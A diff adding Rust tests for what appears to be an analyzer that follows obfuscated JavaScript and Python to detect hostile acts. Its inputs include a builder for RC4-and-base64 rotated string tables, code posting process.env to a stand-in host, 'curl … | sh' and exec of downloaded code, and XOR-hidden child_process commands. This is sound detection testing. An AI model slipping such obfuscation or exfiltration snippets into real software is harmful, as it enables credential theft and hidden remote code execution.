@@ -279,3 +279,198 @@ fn hostile_scripts_end() {
         assert!(found.events.len() < 100, "{code}");
     }
 }
+
+/// Strings under RC4 and base64 with small letters first, taken from a table that is turned until a sum fits: what
+/// obfuscators of JavaScript write, made here from scratch.
+fn string_table(strings: &[&str], turned: usize, code: &str) -> String {
+    use base64::Engine as _;
+    let alphabet = base64::alphabet::Alphabet::new("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/");
+    let engine = base64::engine::GeneralPurpose::new(&alphabet.unwrap(), base64::engine::general_purpose::NO_PAD);
+    let mut table: Vec<String> = strings
+        .iter()
+        .map(|text| {
+            let stream = super::fold::cipher::rc4_stream(&"k3y".encode_utf16().collect::<Vec<_>>()).unwrap();
+            let locked: String = text.chars().zip(stream).map(|(c, k)| char::from(c as u8 ^ k)).collect();
+            format!("'{}'", engine.encode(locked))
+        })
+        .collect();
+    table.rotate_right(turned % strings.len());
+    format!(
+        "function table() {{ var all = [{}]; table = function () {{ return all; }}; return table(); }}
+         function get(i, key) {{
+             var text = table()[i - 100];
+             if (get.ready === undefined) {{
+                 var open = function (coded) {{
+                     var letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=', out = '', hex = '';
+                     for (var n = 0, bits, c, at = 0; c = coded.charAt(at++); ~c && (bits = n % 4 ? bits * 64 + c : c, n++ % 4)
+                         ? out += String.fromCharCode(255 & bits >> (-2 * n & 6)) : 0) {{ c = letters.indexOf(c); }}
+                     for (var i = 0; i < out.length; i++) {{ hex += '%' + ('00' + out.charCodeAt(i).toString(16)).slice(-2); }}
+                     return decodeURIComponent(hex);
+                 }};
+                 get.unlock = function (coded, key) {{
+                     var s = [], j = 0, x, out = ''; coded = open(coded); var i;
+                     for (i = 0; i < 256; i++) {{ s[i] = i; }}
+                     for (i = 0; i < 256; i++) {{ j = (j + s[i] + key.charCodeAt(i % key.length)) % 256; x = s[i]; s[i] = s[j]; s[j] = x; }}
+                     i = 0; j = 0;
+                     for (var y = 0; y < coded.length; y++) {{
+                         i = (i + 1) % 256; j = (j + s[i]) % 256; x = s[i]; s[i] = s[j]; s[j] = x;
+                         out += String.fromCharCode(coded.charCodeAt(y) ^ s[(s[i] + s[j]) % 256]);
+                     }}
+                     return out;
+                 }};
+                 get.seen = {{}}; get.ready = true;
+             }}
+             var first = table()[0];
+             get.first !== first && (get.seen = {{}}, get.first = first);
+             var known = get.seen[i];
+             return known === undefined ? (text = get.unlock(text, key), get.seen[i] = text) : text = known, text;
+         }}
+         (function (make, sum) {{
+             var all = make();
+             while (!![]) {{
+                 try {{ if (parseInt(get(100, 'k3y')) / 1 === sum) break; else all['push'](all['shift']()); }}
+                 catch (e) {{ all['push'](all['shift']()); }}
+             }}
+         }})(table, 4711);
+         {code}",
+        table.join(",")
+    )
+}
+
+#[test]
+fn turned_tables_of_locked_strings_open() {
+    let strings = ["4711start", "https://collect.invalid/x", "stringify", "env", "POST"];
+    let code =
+        "fetch(get(101, 'k3y'), { method: get(104, 'k3y'), body: JSON[get(102, 'k3y')](process[get(103, 'k3y')]) });";
+    for turned in 0..strings.len() {
+        let outcome = outcome(Language::JavaScript, &string_table(&strings, turned, code));
+        assert_eq!(subject(&outcome, Act::Send), "https://collect.invalid/x", "turned by {turned}");
+        assert!(event(&outcome, Act::Send).data.any(Labels::ENV_ALL) && !outcome.cut_off);
+    }
+}
+
+#[test]
+fn many_locked_strings_cost_little() {
+    let mut strings: Vec<String> = (0..200).map(|i| format!("word number {i}")).collect();
+    strings.insert(0, "4711start".to_owned());
+    let strings: Vec<&str> = strings.iter().map(String::as_str).collect();
+    let outcome =
+        outcome(Language::JavaScript, &string_table(&strings, 150, "fetch('https://h.invalid/' + get(180, 'k3y'))"));
+    assert_eq!(subject(&outcome, Act::Fetch), "https://h.invalid/word number 79");
+    assert!(!outcome.cut_off);
+}
+
+#[test]
+fn what_scripts_of_javascript_do_to_be_hard_to_read_folds() {
+    let cases = [
+        // Order of statements behind a switch, with a label.
+        "var o = '2|0|1'.split('|'), i = 0, s = ''; run: while (true) { switch (o[i++]) { case '0': s += 'llect.inv'; continue; case '1': s += 'alid/'; break run; case '2': s += 'https://co'; continue; } } fetch(s);",
+        // Variables of a function hide those outside even when they get no value where they are declared.
+        "var s = 'https://collect.invalid/'; function f() { var s; s = 'other'; return s; } f(); fetch(s);",
+        // Fields of functions, prototypes, functions in tables.
+        "function f() { return f.part + 'invalid/'; } f.part = 'https://collect.'; fetch(f());",
+        "function F(a) { this.a = a; } F.prototype.get = function () { return this.a + 'invalid/'; }; fetch(new F('https://collect.').get());",
+        "const t = { add: function (a, b) { return a + b; } }; fetch(t['add']('https://collect.', 'invalid/'));",
+        // Regular expressions.
+        "fetch('hxxps://collect[.]invalid/'.replace(/^hxx/, 'htt').replace(/\\[\\.\\]/g, '.'));",
+        "fetch('h1t2t3p4s5:6/7/collect.invalid/'.split(/\\d/).join(''));",
+        "if (/^[a-c]+$/.test('abc')) fetch('https://collect.invalid/'); else fetch('https://other.invalid/');",
+        // Bytes.
+        "fetch(new TextDecoder().decode(new Uint8Array([104,116,116,112,115,58,47,47,99,111,108,108,101,99,116,46,105,110,118,97,108,105,100,47])));",
+        "fetch(Buffer.from([104,116,116,112,115,58,47,47,99,111,108,108,101,99,116,46,105,110,118,97,108,105,100,47]).toString());",
+        // Scripts that ask for their own text do not get caught in their own traps.
+        "if (('' + function () { return 1; }).indexOf('\\n') === -1) fetch('https://collect.invalid/'); else while (true) {}",
+    ];
+    for code in cases {
+        let outcome = outcome(Language::JavaScript, code);
+        let all: Vec<&str> = outcome.events.iter().filter_map(|e| e.subject.as_deref()).collect();
+        assert_eq!(all, ["https://collect.invalid/"], "{code}");
+    }
+}
+
+#[test]
+fn a_loop_that_never_ends_leaves_the_rest_to_be_followed() {
+    for code in [
+        "var i = 0; while (i >= 0) { i++; } fetch('https://collect.invalid/', { body: JSON.stringify(process.env) });",
+        "for (var a = [1], i = 0; i < a.length; i++) { a.push(i); } fetch('https://collect.invalid/', { body: JSON.stringify(process.env) });",
+    ] {
+        let outcome = outcome(Language::JavaScript, code);
+        assert!(outcome.cut_off, "{code}");
+        assert!(event(&outcome, Act::Send).data.any(Labels::ENV_ALL));
+    }
+}
+
+#[test]
+fn handlers_are_followed_once_and_change_nothing_before() {
+    let code = "var a = ['b', 'a']; try { a.push(a.shift()); } catch (e) { a.push(a.shift()); fetch('https://handler.invalid/'); }
+                fetch('https://' + a[0] + '.invalid/');";
+    let outcome = outcome(Language::JavaScript, code);
+    let all: Vec<&str> = outcome.events.iter().filter_map(|e| e.subject.as_deref()).collect();
+    assert_eq!(all, ["https://a.invalid/", "https://handler.invalid/"]);
+}
+
+#[test]
+fn long_chains_of_conditions_are_no_depth() {
+    let mut code = "import sys\nimport requests\nx = sys.argv[1]\nif x == '0':\n    pass\n".to_owned();
+    for i in 1..2000 {
+        code.push_str(&format!("elif x == '{i}':\n    pass\n"));
+    }
+    code.push_str("else:\n    requests.get('https://last.invalid/')\n");
+    let outcome = python(&code);
+    assert!(!outcome.cut_off);
+    assert_eq!(subject(&outcome, Act::Fetch), "https://last.invalid/");
+}
+
+#[test]
+fn what_is_written_and_started_is_followed() {
+    let written = rules(
+        Language::Python,
+        "import os, sys, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b'import urllib.request\\nexec(urllib.request.urlopen(\"https://h.invalid/x\").read())')\nos.system(f'start {sys.executable} {f.name}')",
+    );
+    assert!(written.contains(&"flow-remote-code"), "{written:?}");
+    let shell = rules(
+        Language::Python,
+        "import os\nopen('/tmp/a.sh', 'w').write('#!/bin/sh\\ncurl -s https://h.invalid/x | sh')\nos.system('chmod +x /tmp/a.sh; /tmp/a.sh')",
+    );
+    assert!(shell.contains(&"flow-remote-code") || shell.contains(&"flow-download-run"), "{shell:?}");
+}
+
+#[test]
+fn code_that_stands_nowhere_as_it_runs_was_concealed() {
+    let run =
+        "new Function('require', [@].map(function (c) { return String.fromCharCode(c ^ 7); }).join(''))(require);";
+    let code: Vec<String> =
+        "require('child_process').exec('whoami; hostname; id; uname')".bytes().map(|b| (b ^ 7).to_string()).collect();
+    let hidden = rules(Language::JavaScript, &run.replace('@', &code.join(",")));
+    assert!(hidden.contains(&"flow-hidden-code-acts"), "{hidden:?}");
+    let plain = rules(
+        Language::JavaScript,
+        "var open = \"require('child_process')\", rest = \".exec('whoami; hostname; id; uname')\"; new Function('require', open + rest)(require);",
+    );
+    assert!(!plain.contains(&"flow-hidden-code-acts"), "{plain:?}");
+}
+
+#[test]
+fn choices_that_the_surroundings_make_are_seen() {
+    let alike =
+        |code: &str| outcome(Language::JavaScript, code).choices.iter().filter(|c| c.is_among_look_alikes()).count();
+    let zone = "const z = Intl.DateTimeFormat().resolvedOptions().timeZone;";
+    assert_eq!(alike(&format!("{zone} const q = z === 'Region/City' ? '\\u2019' : \"'\";")), 1);
+    assert_eq!(alike(&format!("{zone} let q; if (z === 'Region/City') {{ q = '\\u2019'; }} else {{ q = \"'\"; }}")), 1);
+    assert_eq!(alike(&format!("{zone} const q = [\"'\", '\\u2019'][+(z === 'Region/City')];")), 1);
+    assert_eq!(alike(&format!("{zone} const q = z === 'Region/City' ? 'yes' : 'no';")), 0);
+    let hidden =
+        |code: &str| outcome(Language::JavaScript, code).choices.iter().filter(|c| c.is_by_hidden_list()).count();
+    assert_eq!(
+        hidden(
+            "const l = atob('cHJveHkuaW52YWxpZCxnYXRlLmludmFsaWQ=').split(','); if (l.includes(process.env.HTTPS_PROXY)) { mark(); }"
+        ),
+        1
+    );
+    assert_eq!(
+        hidden(
+            "const l = 'proxy.invalid,gate.invalid'.split(','); if (l.includes(process.env.HTTPS_PROXY)) { mark(); }"
+        ),
+        0
+    );
+}
